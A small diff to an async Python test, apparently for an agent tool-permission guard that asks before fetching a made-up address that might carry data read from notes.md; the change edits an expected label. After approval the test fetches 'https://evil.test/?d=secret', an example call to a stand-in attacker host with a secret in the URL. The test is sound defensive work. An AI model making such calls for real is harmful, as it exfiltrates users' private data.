@@ -133,7 +133,7 @@ async def test_a_made_up_address_asks_and_its_host_may_be_allowed_for_good(desk:
     assert asked.lines[0] == (
         "This address was made up after reading example.org, and could carry what was read from notes.md."
     )
-    assert (asked.pattern, asked.labels) == (("guard: evil.test",), ("any address of evil.test",))
+    assert (asked.pattern, asked.labels) == (("guard: evil.test",), ("evil.test",))
     desk.approves = True
     assert (await desk.call("fetch", url="https://evil.test/?d=secret")).content == "opened"
 
